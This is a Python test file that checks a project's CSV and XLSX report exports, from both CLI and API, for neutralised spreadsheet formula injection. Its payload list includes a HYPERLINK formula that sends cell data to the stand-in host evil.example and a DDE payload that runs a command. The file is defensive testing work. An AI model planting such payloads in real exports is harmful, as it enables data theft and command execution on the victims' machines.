"""No exported spreadsheet cell is a live formula (issue 13 item 4): CSV and XLSX, CLI and API.

Zone names of a tiny project are replaced by formula payloads (OWASP's CSV-injection list:
``=``, ``+``, ``-``, ``@``, tab, carriage return, plus an error literal). The exports are
read back as a spreadsheet would read them: the CSV with the csv module (every such cell must
begin with an apostrophe), the XLSX with openpyxl (every such cell must be a string cell, no
cell a formula) and as raw XML (no ``<f>`` element anywhere).
"""

from __future__ import annotations

import csv
import io
import re
import warnings
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from fixtures.tiny import REPORTED_CSV, TARGETS, tiny_layers, write_rows
from openpyxl import Workbook, load_workbook
from starlette.exceptions import StarletteDeprecationWarning
from typer.testing import CliRunner

from layers.sheets import csv_cell, frame_to_csv, is_formula_like, set_cell
from peakmap.cli import app
from web.app import create_app

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from fastapi.testclient import TestClient

PAYLOADS = {
    "D": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "S1": "=cmd|' /C calc'!A0",
    "S2": "+1+2",
    "S3": "-2+3",
    "C1": "@SUM(1,1)",
    "C2": "\t=1+1",
    "C3": "\r=1+1",
}
ERROR_LITERAL = ("C4", "#N/A")  # openpyxl would store this as an error cell


@pytest.fixture(scope="module")
def evil_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("evil")
    (root / "build").mkdir()
    names = {**PAYLOADS, ERROR_LITERAL[0]: ERROR_LITERAL[1]}
    for name, rows in tiny_layers().items():
        if name in ("districts", "streets", "communities"):
            rows = [{**row, "name": names[row["code"]]} for row in rows]
        write_rows(root / "build" / "peakmap.gpkg", name, rows)
    (root / "project.toml").write_text(
        '[project]\nname = "=1+2"\ntargets = "targets.toml"\nreported = "reported.csv"\n'
        "year = 2025\n", encoding="utf-8")
    # HP-04 with a target of 1,000 m²: the district's gap is −900, a number that stays one
    (root / "targets.toml").write_text(TARGETS.replace("target = 2000", "target = 1000"),
                                       encoding="utf-8")
    (root / "reported.csv").write_text(REPORTED_CSV, encoding="utf-8")
    return root


def _xml(text: str) -> str:
    """XML readers turn a carriage return into a line feed (end-of-line normalisation)."""
    return text.replace("\r", "\n")


# --- the helpers on single values ---------------------------------------------------------


@pytest.mark.parametrize("text", [*PAYLOADS.values(), "=", "-", "@"])
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["和平区", "HP-04", " =1", "1-2", "", 0, -3.5, None, True])
def test_other_cells_are_left_alone(value: object) -> None:
    assert not is_formula_like(value)
    assert csv_cell(value) == ("" if value is None else value)


def test_set_cell_stores_text_as_string(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    for i, value in enumerate([*PAYLOADS.values(), "#N/A", "plain", -2.5, 7], start=1):
        set_cell(ws.cell(i, 1), value)
    # what openpyxl does without the helper: a formula and an error cell
    ws.cell(1, 2).value = "=1+1"
    ws.cell(2, 2).value = "#N/A"
    assert (ws.cell(1, 2).data_type, ws.cell(2, 2).data_type) == ("f", "e")
    path = tmp_path / "cells.xlsx"
    wb.save(path)
    back = load_workbook(path).active
    got = [(c.value, c.data_type) for c in back["A"]]
    expected = [(_xml(v), "s") for v in [*PAYLOADS.values(), "#N/A", "plain"]]
    assert got[: len(PAYLOADS) + 2] == expected
    assert got[-2:] == [(-2.5, "n"), (7, "n")]
    assert all(back.cell(i, 1).quotePrefix for i in range(1, len(PAYLOADS) + 1))


def test_frame_to_csv() -> None:
    frame = pd.DataFrame({"name": ["=1+1", "ok", None], "kwh": [-1.5, 2.0, float("nan")]})
    rows = list(csv.reader(io.StringIO(frame_to_csv(frame))))
    assert rows == [["name", "kwh"], ["'=1+1", "-1.5"], ["ok", "2.0"], ["", ""]]


# --- the report through the CLI and the API -------------------------------------------------


def _check_csv(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    by_zone = {(r["level"], r["zone_code"], r["indicator"]): r for r in rows}
    assert len(rows) == 2 * 8 + 1
    for code, payload in PAYLOADS.items():
        level = "district" if code == "D" else "street" if code.startswith("S") else "community"
        assert by_zone[(level, code, "HP-04")]["zone_name"] == "'" + payload
    assert by_zone[("community", "C4", "HP-04")]["zone_name"] == "#N/A"
    district = by_zone[("district", "D", "HP-04")]
    assert float(district["gap"]) == pytest.approx(-900.0)  # 1,900 − 1,000 m², a number
    assert district["gap"].startswith("-")
    for row in rows:  # no cell at all begins with a trigger
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r"))
                       for k, v in row.items() if k != "gap")


def _check_xlsx(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name)
    wb = load_workbook(io.BytesIO(data))
    seen: dict[str, str] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    seen[cell.value] = cell.data_type
    for payload in [*PAYLOADS.values(), ERROR_LITERAL[1]]:
        assert seen.get(_xml(payload)) == "s", payload  # kept as the very text, as a string cell
    assert any(v.startswith("=1+2 — ") for v in seen)  # the project name in the titles
    district = wb["区"]
    header = [c.value for c in district[3]]
    gap = next(r[header.index("差距")] for r in district.iter_rows(min_row=4)
               if r[header.index("指标编号")].value == "HP-04")
    assert (gap.value, gap.data_type) == (pytest.approx(-900.0), "n")


def test_cli_csv_and_xlsx_hold_no_formula(evil_project: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    out = tmp_path / "r.csv"
    result = runner.invoke(app, ["report", str(evil_project), "--format", "csv", "--level",
                                 "all", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as fh:  # keep the \r inside the field
        _check_csv(fh.read())
    result = runner.invoke(app, ["report", str(evil_project), "--format", "csv", "--level",
                                 "all"])
    assert result.exit_code == 0, result.output
    _check_csv(result.stdout)
    out = tmp_path / "r.xlsx"
    result = runner.invoke(app, ["report", str(evil_project), "--format", "xlsx", "--out",
                                 str(out)])
    assert result.exit_code == 0, result.output
    _check_xlsx(out.read_bytes())


def test_api_csv_and_xlsx_hold_no_formula(evil_project: Path) -> None:
    client = TestClient(create_app(evil_project))
    r = client.get("/api/report.csv")
    assert r.status_code == 200, r.text
    _check_csv(r.content.decode("utf-8-sig"))
    r = client.get("/api/report.xlsx")
    assert r.status_code == 200, r.text
    _check_xlsx(r.content)


# Writers of project *inputs* (the synthetic sample's raw files) are not exports.
NOT_EXPORTS = {"layers/sample/write.py"}
BYPASS = (".to_csv(", ".to_excel(", "csv.writer(", "csv.DictWriter(", "xlsxwriter")
SHEET_APPEND = re.compile(r"\b(ws|sheet|notes|wb\.active)\.append\(")


def test_every_csv_and_xlsx_export_goes_through_layers_sheets() -> None:
    """No export writer of the program writes CSV/XLSX cells except through layers.sheets.

    CSV writers and pandas' ``to_csv``/``to_excel`` are allowed only in layers/sheets.py;
    a module that makes an openpyxl workbook fills its cells with ``set_cell`` (never
    ``Worksheet.append``, which would store ``=...`` text as a formula).
    """
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for package in ("gis", "layers", "web", "peakmap"):
        for path in sorted((root / package).rglob("*.py")):
            rel = path.relative_to(root).as_posix()
            if rel in NOT_EXPORTS or rel == "layers/sheets.py":
                continue
            text = path.read_text(encoding="utf-8")
            sheets = "openpyxl" in text
            for n, line in enumerate(text.splitlines(), 1):
                code = line.split("#", 1)[0]
                if any(b in code for b in BYPASS) or (sheets and SHEET_APPEND.search(code)):
                    offenders.append(f"{rel}:{n}: {line.strip()}")
            if "Workbook(" in text and "set_cell" not in text:
                offenders.append(f"{rel}: makes a workbook without layers.sheets.set_cell")
    assert offenders == []
